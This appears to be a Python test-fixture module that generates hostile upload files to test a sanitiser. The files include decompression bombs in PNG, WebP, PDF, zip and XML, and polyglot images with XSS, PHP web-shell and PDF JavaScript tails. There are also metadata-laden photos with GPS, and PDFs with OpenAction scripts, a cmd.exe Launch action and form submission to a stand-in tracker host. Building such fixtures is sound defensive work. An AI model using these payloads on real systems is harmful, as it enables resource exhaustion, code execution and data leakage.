"""Files made to do harm: bombs, files that are two kinds at once, papers with programs in them, photos that tell too much."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Iterator
from typing import Any

import pikepdf
from pikepdf import Array, Dictionary, Name, String
from PIL import Image

from tests.municipality.uploads import seeds

# Bombs (U2). Each with the kind that its first bytes say.


def chunk(name: bytes, content: bytes) -> bytes:
    return struct.pack("!I", len(content)) + name + content + struct.pack("!I", zlib.crc32(name + content))


def huge_png(side: int = 13_000) -> bytes:
    """169 million grey points in some 160 kB."""
    packer = zlib.compressobj(9)
    rows = b"".join(packer.compress(b"\0" * (side + 1)) for _ in range(side)) + packer.flush()
    header = struct.pack("!IIBBBBB", side, side, 8, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", rows) + chunk(b"IEND", b"")


def lying_png() -> bytes:
    """A header of a small picture, pixels without end."""
    body = zlib.compress(b"\0" * 200_000_000, 9)
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack("!IIBBBBB", 100, 100, 8, 2, 0, 0, 0)) + chunk(b"IDAT", body) + chunk(b"IEND", b"")
    )


def png_with(name: bytes, content: bytes) -> bytes:
    """A small picture with one more chunk behind its header."""
    made = seeds.saved(seeds.drawing((20, 20)), "PNG")
    return made[:33] + chunk(name, content) + made[33:]


def text_bomb() -> bytes:
    """iTXt and iCCP that unpack to hundreds of megabytes."""
    return png_with(b"iTXt", b"Comment\0\1\0\0\0" + zlib.compress(b"x" * 300_000_000, 9))


def profile_bomb() -> bytes:
    return png_with(b"iCCP", b"x\0\0" + zlib.compress(b"\0" * 300_000_000, 9))


def film_webp(frames: int = 10_000) -> bytes:
    """An animation of many frames, by its container alone (RFC 9649, section 2.7)."""
    still = seeds.saved(Image.new("RGB", (1, 1)), "WEBP", lossless=True)
    image = still[12:]
    header = b"\x12\0\0\0" + bytes(6)
    frame = b"ANMF" + struct.pack("<I", 16 + len(image)) + bytes(16) + image
    body = b"WEBP" + b"VP8X" + struct.pack("<I", 10) + header[:4] + bytes(6) + b"ANIM" + struct.pack("<I", 6) + bytes(6) + frame * frames
    return b"RIFF" + struct.pack("<I", len(body)) + body


def film_png(frames: int = 200) -> bytes:
    pictures = [Image.new("L", (2, 2), n % 256) for n in range(frames)]
    return seeds.saved(pictures[0], "PNG", save_all=True, append_images=pictures[1:])


def many_objects(count: int = 1_000_000) -> bytes:
    """A PDF with a million objects, packed into object streams until it fits the limit of size."""
    table = b"".join(b"\2\0\0\1\0\1" for _ in range(count))
    packed = zlib.compress(table, 9)
    body = b"%PDF-1.7\n"
    body += b"1 0 obj <</Type/Catalog/Pages 2 0 R>> endobj\n2 0 obj <</Type/Pages/Kids[]/Count 0>> endobj\n"
    place = len(body)
    body += b"3 0 obj <</Type/XRef/Size %d/W[1 3 2]/Root 1 0 R/Filter/FlateDecode/Length %d>> stream\n" % (count, len(packed))
    return body + packed + b"\nendstream endobj\nstartxref\n%d\n%%%%EOF" % place


def real_objects(count: int = 300_000) -> bytes:
    return b"%PDF-1.4\n" + b"".join(b"%d 0 obj 0 endobj\n" % n for n in range(1, count)) + b"trailer <</Root 1 0 R>>\n%%EOF"


def huge_picture_in_a_paper() -> bytes:
    """A PDF whose only picture claims 40,000 by 40,000 points, packed twice."""
    document = pikepdf.new()
    page = document.add_blank_page(page_size=(595, 842))
    once = zlib.compress(b"\0" * 400_000_000, 9)
    image = pikepdf.Stream(document, zlib.compress(once, 9))
    image.Type, image.Subtype, image.Width, image.Height = Name.XObject, Name.Image, 40_000, 40_000
    image.ColorSpace, image.BitsPerComponent = Name.DeviceGray, 8
    image.Filter = Array([Name.FlateDecode, Name.FlateDecode])
    page.obj.Resources = Dictionary(XObject=Dictionary(X=document.make_indirect(image)))
    page.obj.Contents = document.make_stream(b"q 595 0 0 842 0 0 cm /X Do Q")
    return seeds.bound(document, compress_streams=False, stream_decode_level=pikepdf.StreamDecodeLevel.none)


def deep_paper(depth: int = 60_000) -> bytes:
    """Arrays within arrays."""
    return b"%PDF-1.4\n1 0 obj " + b"[" * depth + b"]" * depth + b" endobj\ntrailer <</Root 1 0 R>>\n%%EOF"


def pattern_paper() -> bytes:
    """A page that paints a form that paints a form … ten to the ninth times."""
    document = pikepdf.new()
    page = document.add_blank_page(page_size=(595, 842))
    inner: Any = None
    for _level in range(9):
        form = document.make_stream(b"0 0 9 9 re f" if inner is None else b"/F Do " * 10)
        form.Type, form.Subtype, form.BBox = Name.XObject, Name.Form, Array([0, 0, 595, 842])
        form.Resources = Dictionary(XObject=Dictionary(F=inner)) if inner is not None else Dictionary()
        inner = document.make_indirect(form)
    page.obj.Resources = Dictionary(XObject=Dictionary(F=inner))
    page.obj.Contents = document.make_stream(b"/F Do " * 10)
    return seeds.bound(document)


def archive() -> bytes:
    """A word processor's file: an archive with an archive in it."""
    inside = io.BytesIO()
    with zipfile.ZipFile(inside, "w", zipfile.ZIP_DEFLATED) as packed:
        packed.writestr("0", b"\0" * 10_000_000)
    outside = io.BytesIO()
    with zipfile.ZipFile(outside, "w", zipfile.ZIP_DEFLATED) as packed:
        packed.writestr("[Content_Types].xml", "<Types/>")
        packed.writestr("word/media.zip", inside.getvalue())
    return outside.getvalue()


def entities() -> bytes:
    levels = "".join(f'<!ENTITY e{n} "{f"&e{n - 1};" * 10}">' for n in range(1, 10))
    return f'<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY e0 "x">{levels}]><svg xmlns="http://www.w3.org/2000/svg">&e9;</svg>'.encode()


def bombs() -> dict[str, bytes]:
    return {
        "png of 169 million points": huge_png(),
        "png with pixels without end": lying_png(),
        "png with packed text": text_bomb(),
        "png with packed profile": profile_bomb(),
        "webp of 10,000 frames": film_webp(),
        "png of 200 frames": film_png(),
        "pdf of a million objects": many_objects(),
        "pdf of 300,000 real objects": real_objects(),
        "pdf with a huge picture": huge_picture_in_a_paper(),
        "pdf of nested arrays": deep_paper(),
        "pdf of forms in forms": pattern_paper(),
        "archive in an archive": archive(),
        "xml with entities": entities(),
    }


# Two kinds at once (U3).

TAILS = (
    b"<html><script>alert(document.domain)</script></html>",
    b"PK\x03\x04" + bytes(26) + b"x",
    b"%PDF-1.4\n1 0 obj <</OpenAction <</S/JavaScript/JS(app.alert(1))>>>> endobj",
    b"*/=1;alert(1)//<script>alert(1)</script>",
    b"<?php system($_GET['c']); ?><svg onload=alert(1)>",
)


def with_comment(jpeg: bytes, text: bytes) -> bytes:
    """A JPEG with a comment segment (ITU-T T.81, B.2.4.5)."""
    return jpeg[:2] + b"\xff\xfe" + struct.pack("!H", len(text) + 2) + text + jpeg[2:]


def polyglots() -> Iterator[tuple[str, bytes]]:
    """Two hundred: five tails × four places in JPEG, PNG, WebP and pixels, × seeds."""
    for seed in range(10):
        size = (60 + seed, 50)
        jpeg, image = seeds.photo(size, seed=seed), seeds.drawing(size, seed=seed)
        png, webp = seeds.saved(image, "PNG"), seeds.saved(image, "WEBP")
        for number, tail in enumerate(TAILS):
            mark = f"{seed}-{number}"
            if seed % 2:
                yield f"tail-{mark}.jpg", jpeg + tail
                yield f"comment-{mark}.jpg", with_comment(jpeg, tail)
                yield f"tail-{mark}.webp", webp + tail
                yield f"chunk-{mark}.png", png[:33] + chunk(b"tEXt", b"Comment\0" + tail) + png[33:]
            else:
                yield f"tail-{mark}.png", png + tail
                yield f"pixels-{mark}.png", in_pixels(tail, seed)
                yield f"exif-{mark}.jpg", seeds.photo(size, seed=seed, exif=b"Exif\0\0MM\0*\0\0\0\x08\0\0\0\0\0\0" + tail)
                yield f"head-{mark}.jpg", jpeg[:20] + jpeg[20:] + b"\xff\xd9" + tail


def in_pixels(tail: bytes, seed: int) -> bytes:
    """A PNG without compression and without filters whose pixels spell the tail, row after row."""
    width = 40
    row = (tail * (3 * width // len(tail) + 1))[: 3 * width]
    noise = bytes((seed * 7 + n * n * 31) % 256 for n in range(3 * width))
    header = struct.pack("!IIBBBBB", width, 40, 8, 2, 0, 0, 0)
    body = zlib.compress((b"\0" + row + b"\0" + noise) * 20, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", body) + chunk(b"IEND", b"")


# Photos that tell where, when and with what they were taken (U4).


def camera_photo(number: int) -> bytes:
    """As phones and cameras write them: EXIF with place, owner and thumbnail, XMP, IPTC, a comment, a profile, a second picture behind."""
    exif = Image.Exif()
    exif[0x010F], exif[0x0110], exif[0x0131] = "Maker SECRET-DEVICE", f"Model SECRET-DEVICE {number}", "SECRET-SOFTWARE"
    exif[0x0132], exif[0x013B], exif[0x8298] = "2026:11:24 08:00:00", "SECRET-OWNER", "SECRET-OWNER"
    exif[0x0112] = number % 8 + 1
    place = exif.get_ifd(0x8825)
    place[1], place[2], place[3], place[4] = "N", (29.0, 22.0, float(number)), "E", (47.0, 58.0, 1.0)
    detail = exif.get_ifd(0x8769)
    detail[0xA430], detail[0xA431], detail[0x927C] = "SECRET-OWNER", "SECRET-SERIAL", b"SECRET-MAKERNOTE" * 20
    xmp = f"<x:xmpmeta><rdf:Description GPSLatitude='29,22N' creator='SECRET-OWNER' n='{number}'/></x:xmpmeta>".encode()
    base = seeds.photo((160, 120), seed=number, exif=exif.tobytes(), comment=b"SECRET-COMMENT", xmp=xmp, icc_profile=b"SECRET-PROFILE" * 30)
    iptc = b"Photoshop 3.0\x008BIM\x04\x04\0\0" + struct.pack("!I", 20) + b"\x1c\x02\x50\0\x0cSECRET-OWNER\0\0\0"
    with_iptc = base[:2] + b"\xff\xed" + struct.pack("!H", len(iptc) + 2) + iptc + base[2:]
    if number % 5 == 0:
        return seeds.saved(seeds.drawing((160, 120), seed=number), "WEBP", exif=exif.tobytes(), xmp=xmp)
    if number % 7 == 0:
        return seeds.saved(seeds.drawing((160, 120), seed=number), "PNG", exif=exif.tobytes())
    return with_iptc + seeds.photo((20, 20), seed=number) + b"SECRET-MOTION-VIDEO"


SECRETS = (b"SECRET", b"Exif", b"xmpmeta", b"Photoshop", b"8BIM", b"ICC_PROFILE", b"GPSLatitude", b"eXIf")


# Papers with programs in them (U5).

_ACTIVE = """
    JavaScript JS OpenAction AA Launch EmbeddedFile EmbeddedFiles XFA AcroForm URI Annots Names RichMedia SubmitForm GoToR ImportData
    Metadata Encrypt
"""
ACTIVE_KEYS = frozenset(f"/{name}" for name in _ACTIVE.split())


def _action(document: Any, kind: str, number: int) -> Any:
    return document.make_indirect(
        {
            "JavaScript": Dictionary(S=Name.JavaScript, JS=String(f"app.alert({number})")),
            "Launch": Dictionary(S=Name.Launch, F=String("cmd.exe")),
            "URI": Dictionary(S=Name.URI, URI=String(f"https://tracker.example/{number}")),
            "SubmitForm": Dictionary(S=Name.SubmitForm, F=String("https://tracker.example/")),
            "GoToR": Dictionary(S=Name.GoToR, F=String("//tracker.example/share"), D=Array([0, Name.Fit])),
        }[kind]
    )


def active_papers() -> Iterator[tuple[str, bytes]]:
    """Sixty: ten dangers × six documents."""
    for number in range(1, 7):
        for danger in ("open", "names", "page", "annotation", "launch", "attachment", "xfa", "form", "encrypted", "locked"):
            document = seeds.paper(number)
            yield f"{danger}-{number}.pdf", _arm(document, danger, number)


def _arm(document: Any, danger: str, number: int) -> bytes:
    root, page = document.Root, document.pages[0].obj
    kind = ("JavaScript", "URI", "SubmitForm", "GoToR")[number % 4]
    script = _action(document, "JavaScript", number)
    if danger == "open":
        root.OpenAction = script
    elif danger == "names":
        root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("x"), script])))
    elif danger == "page":
        page.AA = Dictionary(O=script)
    elif danger in ("annotation", "launch"):
        action = _action(document, "Launch" if danger == "launch" else kind, number)
        page.Annots = Array(
            [document.make_indirect(Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 595, 842]), A=action))]
        )
    elif danger == "attachment":
        document.attachments["payload.exe"] = b"MZ\x90\0 a program"
    elif danger in ("xfa", "form"):
        field = Dictionary(FT=Name.Tx, T=String("name"), V=String("value"), Subtype=Name.Widget, Rect=Array([50, 50, 300, 80]))
        widget = document.make_indirect(field)
        page.Annots = Array([widget])
        root.AcroForm = Dictionary(Fields=Array([widget]))
        if danger == "xfa":
            root.AcroForm.XFA = document.make_stream(
                b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'><script>app.alert(1)</script></xdp:xdp>"
            )
    if danger in ("encrypted", "locked"):
        root.OpenAction = script
        revision: Any = 4 + 2 * (number % 2)
        return seeds.bound(document, encryption=pikepdf.Encryption(owner="owner", user="user" if danger == "locked" else "", R=revision))
    return seeds.bound(document)
